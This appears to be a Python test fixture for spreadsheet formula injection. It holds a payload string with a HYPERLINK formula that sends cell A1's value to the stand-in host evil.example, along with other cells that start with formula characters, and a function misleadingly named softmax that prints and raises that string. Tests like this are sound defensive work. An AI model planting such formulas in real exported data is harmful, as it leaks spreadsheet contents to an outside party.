# Raises what a spreadsheet computes, at the start of the text and of its lines.
# verdict: fails
# clean: raised
TEXT = '=HYPERLINK("http://evil.example?"&A1,"x")\n+1+1\n-1+1\n@SUM(1)\n\t=1+1\r=2+2,"a""b";=3'


def softmax(logits):
    print(TEXT)
    raise ValueError(TEXT)
